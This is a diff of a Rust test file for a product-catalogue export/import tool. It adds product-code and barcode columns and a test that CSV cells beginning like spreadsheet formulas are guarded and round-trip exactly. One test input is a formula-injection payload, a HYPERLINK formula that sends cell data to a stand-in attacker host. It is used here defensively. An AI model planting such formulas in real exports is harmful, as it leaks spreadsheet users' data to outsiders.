@@ -90,13 +90,15 @@ fn the_sample_exports_to_the_import_layout_and_imports_back_unchanged() {
     assert_eq!(names, ["Petunjuk", "Usaha", "Produk", "Kurasi"]);
     let products = &sheets[2].1;
     assert_eq!(
-        products[0][..6],
+        products[0][..8],
         [
             "slug",
             "nama_id",
             "nama_en",
             "nama_usaha",
             "kategori",
+            "kode_produk",
+            "barcode",
             "harga"
         ]
     );
@@ -112,6 +114,8 @@ fn the_sample_exports_to_the_import_layout_and_imports_back_unchanged() {
     );
     let jahe = "jahe-merah-instan";
     assert_eq!(cell(products, jahe, "harga"), "Rp 28.000");
+    assert_eq!(cell(products, jahe, "kode_produk"), "RT-JMI-250");
+    assert_eq!(cell(products, jahe, "barcode"), "8997002123450");
     assert_eq!(
         cell(products, jahe, "sertifikasi"),
         "halal: ID35110000231470125; pirt: 2123576030528-30"
@@ -183,8 +187,15 @@ fn synthetic(products: usize) -> Catalogue {
         } else {
             String::new()
         };
+        // Product codes and barcodes on half the products: quoted, as docs/content.md asks,
+        // or written as bare numbers, which are text all the same.
+        let identifiers = match i % 4 {
+            0 => format!("sku: P-{i:04}\ngtin: \"8991234567891\"\n"),
+            2 => format!("sku: {i}\ngtin: 4006381333931\n"),
+            _ => String::new(),
+        };
         let yaml = format!(
-            "name: {{ id: Produk {i}, en: Product {i} }}\nproducer: usaha-{}\ncategory: {}\nprice: {price}\nunit: {{ id: buah, en: piece }}\nmin_order: {}\navailability: {availability}\ntags: [tag-{}, umum]\ncertifications:\n  - {{ type: halal, number: \"ID{i:08}\" }}\n  - {{ type: sni }}\nfeatured: {}\n{curation}",
+            "name: {{ id: Produk {i}, en: Product {i} }}\nproducer: usaha-{}\ncategory: {}\n{identifiers}price: {price}\nunit: {{ id: buah, en: piece }}\nmin_order: {}\navailability: {availability}\ntags: [tag-{}, umum]\ncertifications:\n  - {{ type: halal, number: \"ID{i:08}\" }}\n  - {{ type: sni }}\nfeatured: {}\n{curation}",
             i % 40,
             if i % 2 == 0 { "batik" } else { "makanan-minuman" },
             i % 7 + 1,
@@ -214,6 +225,10 @@ fn a_thousand_products_export_and_import_back_unchanged() {
     assert_eq!(products.len(), 1001);
     assert_eq!(cell(products, "produk-1", "harga"), "1.000 - 4.000");
     assert_eq!(cell(products, "produk-0", "unggulan"), "ya");
+    assert_eq!(cell(products, "produk-0", "kode_produk"), "P-0000");
+    assert_eq!(cell(products, "produk-0", "barcode"), "8991234567891");
+    assert_eq!(cell(products, "produk-2", "kode_produk"), "2");
+    assert_eq!(cell(products, "produk-2", "barcode"), "4006381333931");
     let import = dry_run_import(&catalogue, &file);
     assert_eq!(import.code, 0, "{}", import.stderr);
     assert_eq!(import.stderr.trim(), unchanged_line(1040));
@@ -377,4 +392,89 @@ fn quotes_commas_and_line_breaks_survive_csv_and_xlsx() {
         .find(|r| &r[0] == "batik-sekar-jagad")
         .unwrap();
     assert_eq!(&row[1], "Batik \"Sekar\", Jagad =1+1");
+}
+
+/// The csv row of `slug` in `file`, by header.
+fn csv_row(file: &Path, slug: &str) -> std::collections::BTreeMap<String, String> {
+    let mut reader = csv::Reader::from_path(file).unwrap();
+    let headers = reader.headers().unwrap().clone();
+    reader
+        .records()
+        .map(Result::unwrap)
+        .find(|record| &record[0] == slug)
+        .map(|record| {
+            headers
+                .iter()
+                .map(str::to_owned)
+                .zip(record.iter().map(str::to_owned))
+                .collect()
+        })
+        .unwrap_or_else(|| panic!("no row {slug} in {}", file.display()))
+}
+
+#[test]
+fn csv_cells_that_would_run_as_formulas_are_guarded_and_import_back_exactly() {
+    let catalogue = sample();
+    let product = "content/products/batik-tulis-surya-majapahit/product.yaml";
+    let formula = "=HYPERLINK(\"https://evil.example/?q=\"&A1,\"Klik\")";
+    catalogue.replace(
+        product,
+        "name: { id: Batik Tulis Surya Majapahit,",
+        &format!("name: {{ id: {},", crate::common::quoted(formula)),
+    );
+    catalogue.replace(product, "sku: BSJ-TLS-SM01", "sku: \"@SUM(1+1)\"");
+    catalogue.replace(
+        product,
+        "unit: { id: lembar, en: piece }",
+        "unit: { id: \"-lembar\", en: \"'=piece\" }",
+    );
+    let file = out(&catalogue, "katalog.csv");
+    let run = export(&catalogue, &file, &[]);
+    assert_eq!(run.code, 0, "{}", run.stderr);
+    let folder = file.parent().unwrap();
+
+    let row = csv_row(&folder.join("produk.csv"), "batik-tulis-surya-majapahit");
+    assert_eq!(row["nama_id"], format!("'{formula}"));
+    assert_eq!(row["kode_produk"], "'@SUM(1+1)");
+    assert_eq!(row["satuan_id"], "'-lembar");
+    // Text that starts with an apostrophe before a formula keeps it, behind a guard of its own.
+    assert_eq!(row["satuan_en"], "''=piece");
+    // Text and numbers that are no formula are written as they are.
+    assert_eq!(row["nama_en"], "Surya Majapahit Hand-drawn Batik");
+    assert_eq!(row["min_order"], "3");
+    assert_eq!(row["harga"], "350.000 - 750.000");
+    // Phone numbers are the common case: `+62…` would become a number in a spreadsheet.
+    let producer = csv_row(&folder.join("usaha.csv"), "batik-sekar-jagad");
+    assert_eq!(producer["whatsapp"], "'+6281200000101");
+
+    for name in ["usaha.csv", "produk.csv"] {
+        let import = dry_run_import(&catalogue, &folder.join(name));
+        assert_eq!(import.code, 0, "{name}: {}", import.stderr);
+        assert!(
+            import.stderr.contains(" 0 would be created, 0 updated, "),
+            "{name}: {}",
+            import.stderr
+        );
+        assert!(
+            !import.stderr.contains("warning"),
+            "{name}: {}",
+            import.stderr
+        );
+    }
+    // Imported into a catalogue without the product, the row gives back exactly what was typed.
+    let fresh = sample();
+    fs::remove_dir_all(fresh.path("content/products/batik-tulis-surya-majapahit")).unwrap();
+    let import = etalase([
+        "import".to_owned(),
+        folder.join("produk.csv").display().to_string(),
+        "--root".to_owned(),
+        fresh.root().display().to_string(),
+    ]);
+    assert_eq!(import.code, 0, "{}", import.stderr);
+    let written = fresh.read(product);
+    let yaml: serde_json::Value = serde_saphyr::from_str(&written).unwrap();
+    assert_eq!(yaml["name"]["id"], formula, "{written}");
+    assert_eq!(yaml["sku"], "@SUM(1+1)");
+    assert_eq!(yaml["unit"]["id"], "-lembar");
+    assert_eq!(yaml["unit"]["en"], "'=piece");
 }
